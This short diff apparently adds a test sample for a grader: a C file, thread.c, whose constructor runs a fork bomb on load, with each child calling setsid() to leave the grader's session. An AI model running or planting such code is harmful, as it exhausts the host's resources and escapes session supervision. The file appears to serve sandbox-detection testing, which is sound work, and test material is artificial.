@@ -1,0 +1,17 @@
+/*
+ * Multiplies, and each copy leaves the grader's session.
+ *
+ * File: thread.c
+ * Says: tried to start another process
+ */
+#include <unistd.h>
+
+__attribute__((constructor))
+static void
+hostile(void)
+{
+    for (;;) {
+        if (fork() == 0)
+            setsid();
+    }
+}
